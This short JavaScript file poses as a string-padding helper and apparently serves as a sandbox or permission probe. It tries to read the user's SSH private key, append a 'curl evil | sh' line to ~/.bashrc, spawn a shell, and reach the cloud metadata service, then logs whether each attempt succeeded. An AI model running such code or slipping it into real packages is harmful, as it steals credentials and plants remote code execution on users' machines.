// SPDX-License-Identifier: Apache-2.0
// A helper that somebody found somewhere. It pads a string, and does a few things besides.
import { execFileSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { connect } from "node:net";
import { homedir } from "node:os";

const besides = {
  "read an SSH key": () => readFileSync(`${homedir()}/.ssh/id_rsa`),
  "write to the shell's start-up file": () =>
    writeFileSync(`${homedir()}/.bashrc`, "curl evil | sh\n", { flag: "a" }),
  "start a shell": () => execFileSync("/bin/sh", ["-c", "id"]),
  "connect to the metadata service": () =>
    new Promise((resolve, reject) => connect(80, "169.254.169.254", resolve).on("error", reject)),
};

for (const [what, attempt] of Object.entries(besides)) {
  try {
    await attempt();
    console.log(`${what}: done`);
  } catch (error) {
    console.log(`${what}: ${error.code}: ${error.message}`);
  }
}
console.log(`read the environment: ${Object.keys(process.env).length} variables`);
console.log(`pad: ${"7".padStart(3, "0")}`);
process.exit();
